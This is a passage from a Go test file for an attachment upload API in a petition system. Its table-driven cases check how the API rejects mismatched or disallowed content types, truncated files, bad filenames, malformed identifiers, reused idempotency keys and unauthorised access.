		put("a type that differs", "Kết quả", 400, "bad-attachment", "application/pdf")
		put("a type that differs", "Kết quả", 400, "bad-attachment", "image/png")
		put("a type that differs", "%PDF-1.4 %%EOF", 400, "bad-attachment", "text/plain")
		put("a file that is cut", "%PDF-1.4", 400, "bad-attachment", "application/pdf")
		put("a type that is not taken", "<a/>", 415, "content-type", "image/svg+xml")
		put("a type that is not taken", "PK", 415, "content-type", "application/zip")
		put("a type that is not taken", "PK", 415, "content-type", "application/vnd.ms-word.document.macroEnabled.12")
		put("a name that is none", "Kết quả", 400, "bad-parameter", "text/plain", "Content-Disposition", `attachment; filename="a`)
		put("a name that is too long", "Kết quả", 400, "bad-parameter", "text/plain", "Content-Disposition", `attachment; filename="`+strings.Repeat("x", 2500)+`"`)
	}
	plain := []string{"Content-Type", "text/plain"}
	for _, id := range append(hostile, "short", strings.Repeat("x", 101), "tep-000\u202e2", "tep-000\u200b2", "tep-0002\x00", "tep-0002\xff") {
		if path := url.PathEscape(id); path != "%00" && len(id) > 7 && len(id) < 101 && utf8.ValidString(id) && !strings.ContainsAny(id, "\r\x1b\x00\u202e\u200b") {
			add("another's file", "GET", evidence(id), "", 404, "unknown-attachment")
			continue
		}
		add("an identifier of a file", "PUT", evidence(id), "Kết quả", 400, "bad-attachment", plain...)
	}
	add("replayed with other content", "PUT", evidence(fileID), "Khác", 422, "key-reused", plain...)
	add("replayed under another name", "PUT", evidence(fileID), aFile, 422, "key-reused", "Content-Type", "text/plain", "Content-Disposition", `attachment; filename="khac.txt"`)
	add("replayed for another purpose", "PUT", "/api/v1/petitions/PAKN.20240603.0001/attachments/"+fileID+"?of=publication", aFile, 422, "key-reused", plain...)
	add("of nothing", "PUT", at("/api/v1/evidence/tep-0002", "obligation", "9/KH#1#x#2024-01-01"), aFile, 404, "unknown-obligation", plain...)
	add("of nothing", "PUT", "/api/v1/petitions/PAKN.20240603.0009/attachments/tep-0002?of=sender", aFile, 404, "unknown-petition", plain...)
	add("without a purpose", "PUT", "/api/v1/petitions/PAKN.20240603.0001/attachments/tep-0002", aFile, 400, "bad-parameter", plain...)
	add("a purpose of others", "PUT", "/api/v1/petitions/PAKN.20240603.0001/attachments/tep-0002?of=evidence", aFile, 400, "bad-parameter", plain...)
	add("no such file", "GET", "/api/v1/petitions/PAKN.20240603.0001/attachments/tep-0009", "", 404, "unknown-attachment")
	add("no such file", "GET", "/api/v1/public/petitions/PAKN.20240602.0008/attachments/tep-0009", "", 404, "unknown-attachment")
	add("not for everybody", "GET", "/api/v1/public/petitions/PAKN.20240603.0001/attachments/"+fileID, "", 404, "unknown-attachment")
	list := bad{name: "cut off: a file", method: "PUT", path: evidence("tep-0002"), body: "Kết quả", header: plain, promised: 500, status: 400, code: "attachment-cut"}
	s.cut = append(s.cut, list)
}
